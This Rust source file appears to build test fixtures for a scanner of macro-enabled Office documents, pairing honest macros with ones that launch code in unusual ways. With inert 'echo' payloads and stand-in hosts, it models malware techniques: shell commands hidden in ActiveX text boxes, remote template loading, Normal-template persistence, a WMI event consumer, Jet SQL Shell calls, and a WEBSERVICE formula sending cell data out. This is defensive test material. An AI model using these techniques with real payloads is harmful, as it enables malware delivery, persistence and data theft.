//! Macros that start, load or hide something in a less usual way, and honest ones that only look like it.

use super::Fixture;
use super::ooxml::Package;
use super::vba::{Module, add_project, vba_project};

const RELATIONSHIPS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const RELS: &str = "application/vnd.openxmlformats-package.relationships+xml";
/// Inert: it prints a word.
const STARTS: &str = "Shell \"cmd.exe /c echo inert\", 0";

fn word(modules: &[Module]) -> Vec<u8> {
    Package::word(true).macros(&vba_project(modules)).build()
}

fn excel(modules: &[Module]) -> Vec<u8> {
    Package::excel(true).macros(&add_project(super::cfb::Cfb::new(), "", 932, modules).build()).build()
}

fn opens(body: &str) -> Module {
    Module::document("ThisWorkbook", &format!("Private Sub Workbook_Open()\n{body}\nEnd Sub"))
}

fn auto_open(body: &str) -> Vec<u8> {
    word(&[Module::standard("NewMacros", &format!("Sub AutoOpen()\n{body}\nEnd Sub"))])
}

/// A text box of Office's own forms (Forms.TextBox.1): its class, and a MorphDataControl ([MS-OFORMS] 2.2.5) that has a
/// value and nothing else.
fn text_box(text: &str) -> Vec<u8> {
    let mut out = vec![0x10, 0x1D, 0xD2, 0x8B, 0x42, 0xEC, 0xCE, 0x11, 0x9E, 0x0D, 0x00, 0xAA, 0x00, 0x60, 0x02, 0xF3];
    out.extend([0, 2]); // MinorVersion, MajorVersion
    out.extend(u16::try_from(text.len() + 12).unwrap().to_le_bytes()); // cbMorphData
    out.extend((1_u64 << 22).to_le_bytes()); // MorphDataPropMask: fValue
    out.extend((u32::try_from(text.len()).unwrap() | 0x8000_0000).to_le_bytes()); // CountOfBytesWithCompressionFlag
    out.extend(text.as_bytes());
    out.resize(out.len().next_multiple_of(4), 0);
    out
}

/// The part that names the class of a control, and its way to the settings.
fn control(package: Package, folder: &str, data: &[u8]) -> Package {
    let part = format!(
        "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" xmlns:r=\"{RELATIONSHIPS}\" \
         ax:classid=\"{{8BD21D10-EC42-11CE-9E0D-00AA006002F3}}\" ax:persistence=\"persistStreamInit\" r:id=\"rId1\"/>"
    );
    let related =
        relationship("http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin");
    package
        .part(&format!("{folder}/activeX/activeX1.xml"), "application/vnd.ms-office.activeX+xml", part.as_bytes())
        .part(&format!("{folder}/activeX/_rels/activeX1.xml.rels"), RELS, related.as_bytes())
        .part(&format!("{folder}/activeX/activeX1.bin"), "application/vnd.ms-office.activeX", data)
}

fn relationship(kind: &str, target: &str) -> String {
    format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
         <Relationship Id=\"rId1\" Type=\"{kind}\" Target=\"{target}\"/></Relationships>"
    )
}

/// A sheet whose text box holds the command.
fn box_on_a_sheet() -> Vec<u8> {
    let sheet = format!(
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{RELATIONSHIPS}\">\
         <sheetPr codeName=\"Sheet1\"/><sheetData/><controls><control shapeId=\"1025\" r:id=\"rId1\" name=\"TextBox1\"/></controls></worksheet>"
    );
    let inside = "<sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets>";
    let modules = [
        opens("Shell Sheet1.TextBox1.Text & Worksheets(\"Data\").OLEObjects(1).Object.Value, 0"),
        Module::document("Sheet1", ""),
    ];
    let book = Package::workbook("application/vnd.ms-excel.sheet.macroEnabled.main+xml", inside)
        .related(&format!("{RELATIONSHIPS}/worksheet"), "worksheets/sheet1.xml", false)
        .part(
            "xl/worksheets/sheet1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            sheet.as_bytes(),
        )
        .part(
            "xl/worksheets/_rels/sheet1.xml.rels",
            RELS,
            relationship(&format!("{RELATIONSHIPS}/control"), "../activeX/activeX1.xml").as_bytes(),
        )
        .macros(&vba_project(&modules));
    control(book, "xl", &text_box("cmd.exe /c echo inert & ")).build()
}

/// The same in a text document.
fn box_in_a_letter() -> Vec<u8> {
    let body = format!(
        "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"{RELATIONSHIPS}\"><w:body><w:p><w:r>\
         <w:object><w:control r:id=\"rId1\" w:name=\"TextBox1\" w:shapeid=\"_x0000_i1025\"/></w:object></w:r></w:p></w:body></w:document>"
    );
    let source = "Private Sub Document_Open()\nShell ActiveDocument.InlineShapes(1).OLEFormat.Object.Text & TextBox1, 0\nEnd Sub";
    let letter = Package::new("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", &body)
        .related(&format!("{RELATIONSHIPS}/control"), "activeX/activeX1.xml", false)
        .macros(&vba_project(&[Module::document("ThisDocument", source)]));
    control(letter, "word", &text_box("cmd.exe /c echo inert & ")).build()
}

/// A button of the forms of old, which is no ActiveX control.
fn old_button() -> Vec<u8> {
    let sheet = format!(
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{RELATIONSHIPS}\">\
         <sheetData/><controls><control shapeId=\"1025\" r:id=\"rId1\" name=\"Button 1\"/></controls></worksheet>"
    );
    let part = b"<formControlPr xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" objectType=\"Button\"/>";
    Package::workbook(
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "<sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets>",
    )
    .related(&format!("{RELATIONSHIPS}/worksheet"), "worksheets/sheet1.xml", false)
    .part(
        "xl/worksheets/sheet1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        sheet.as_bytes(),
    )
    .part(
        "xl/worksheets/_rels/sheet1.xml.rels",
        RELS,
        relationship(&format!("{RELATIONSHIPS}/ctrlProp"), "../ctrlProps/ctrlProp1.xml").as_bytes(),
    )
    .part("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml", part)
    .macros(&vba_project(&[Module::standard("Module1", super::ooxml::SUMS)]))
    .build()
}

/// A ribbon under a name and of a kind that nobody would guess.
fn ribbon_elsewhere() -> Vec<u8> {
    let source = format!("Sub Ready(ribbon)\n{STARTS}\nEnd Sub");
    Package::excel(true)
        .macros(&vba_project(&[Module::standard("Module1", &source)]))
        .related("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "/media/image1.dat", false)
        .part(
            "media/image1.dat",
            "application/octet-stream",
            b"<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Ready\"/>",
        )
        .build()
}

/// A document without macros whose customised ribbon calls a procedure of a template on a server when it is loaded.
fn ribbon_of_a_server() -> Vec<u8> {
    Package::word(false)
        .related(
            "http://schemas.microsoft.com/office/2006/relationships/ui/userCustomization",
            "customUI/own.xml",
            false,
        )
        .part(
            "customUI/own.xml",
            "application/xml",
            b"<mso:customUI xmlns:mso=\"http://schemas.microsoft.com/office/2006/01/customui\" \
              onLoad=\"https://ribbon.example/a.dotm!M.Ready\"/>",
        )
        .build()
}

const SHOWS: &str = "\
Dim 出力 As String, req As Object
出力 = ThisWorkbook.Path & \"\\出力\\\"
Open 出力 & Format(Date, \"yyyymmdd\") & \".csv\" For Output As #1
Print #1, Range(\"A1\").Value
Close #1
Shell \"explorer.exe \" & 出力, vbNormalFocus
ShellExecute 0, \"open\", ThisWorkbook.Path & \"\\手順書.pdf\", \"\", \"\", 1
CreateObject(\"WScript.Shell\").Run \"https://intra.example/help\"
CreateObject(\"WScript.Shell\").Run \"\"\"\" & ThisWorkbook.Path & \"\\my plan.pdf\"\"\", 1
Set req = CreateObject(\"Excel.Application.\" & Int(Val(Application.Version)))";

const HOLIDAYS: &str = "\
Dim f As String
f = Environ(\"TEMP\") & \"\\syukujitsu.csv\"
If URLDownloadToFile(0, \"https://holidays.example/syukujitsu.csv\", f, 0, 0) = 0 Then Workbooks.Open f";

/// A cell that sends another to a server.
fn web_service() -> Vec<u8> {
    let sheet = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\">\
                 <f>_xlfn.WEBSERVICE(\"https://host.example/?\"&amp;B1)</f><v>0</v></c></row></sheetData></worksheet>";
    Package::workbook(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "<sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets>",
    )
    .related(&format!("{RELATIONSHIPS}/worksheet"), "worksheets/sheet1.xml", false)
    .part(
        "xl/worksheets/sheet1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        sheet.as_bytes(),
    )
    .build()
}

pub(crate) fn fixtures() -> Vec<Fixture> {
    let declared = |name: &str, rest: &str| {
        Module::standard("Api", &format!("Public Declare PtrSafe Function {name} {rest} As Long"))
    };
    let shell_execute = declared(
        "ShellExecute",
        "Lib \"shell32\" Alias \"ShellExecuteA\" (ByVal h As LongPtr, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long)",
    );
    let download = declared(
        "URLDownloadToFile",
        "Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr)",
    );
    let later = Module::standard("Module1", &format!("Sub Later()\n{STARTS}\nEnd Sub"));
    let form = Module::form("Panel", &format!("Private Sub UserForm_Layout()\n{STARTS}\nEnd Sub"));
    vec![
        Fixture::new("xlsm-honest-old-button", "sums.xlsm", old_button()).honest(),
        Fixture::new("xlsm-control-text", "order.xlsm", box_on_a_sheet()),
        Fixture::new("docm-control-text", "order.docm", box_in_a_letter()),
        Fixture::new("xlsx-formula-fetches", "prices.xlsx", web_service()),
        Fixture::new("xlsm-ribbon-elsewhere", "tools.xlsm", ribbon_elsewhere()),
        Fixture::new("docx-ribbon-of-a-server", "notice.docx", ribbon_of_a_server()),
        Fixture::new(
            "xlsm-event-property",
            "order.xlsm",
            excel(&[opens("Application.OnSheetActivate = \"Later\""), later]),
        ),
        Fixture::new(
            "docm-form-by-text",
            "order.docm",
            word(&[Module::standard("M", "Sub AutoOpen()\nUserForms.Add(\"Panel\").Show\nEnd Sub"), form]),
        ),
        Fixture::new("docm-wordbasic-shell", "order.docm", auto_open("WordBasic.Shell \"cmd.exe /c echo inert\"")),
        Fixture::new(
            "docm-template-by-code",
            "order.docm",
            auto_open("ActiveDocument.AttachedTemplate = \"https://host.example/\" & \"t.dotm\""),
        ),
        Fixture::new(
            "docm-organizer-copy",
            "order.docm",
            auto_open(
                "Application.OrganizerCopy ActiveDocument.FullName, NormalTemplate.FullName, \"M\", wdOrganizerObjectProjectItems",
            ),
        ),
        Fixture::new(
            "docm-event-consumer",
            "order.docm",
            auto_open(
                "Set c = GetObject(\"winmgmts:root\\subscription\").Get(\"CommandLine\" & \"EventConsumer\").SpawnInstance_",
            ),
        ),
        Fixture::new(
            "xlsm-asks-for-shell",
            "order.xlsm",
            excel(&[opens(
                "Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"Provider=Microsoft.Jet.OLEDB.4.0;Data Source=a.mdb\"\nc.Execute \"SELECT Shell('cmd.exe /c echo inert')\"",
            )]),
        ),
        Fixture::new("xlsm-only-shows", "nippo.xlsm", excel(&[opens(SHOWS), shell_execute])),
        Fixture::new("xlsm-fetches-a-table", "calendar.xlsm", excel(&[opens(HOLIDAYS), download])),
    ]
}
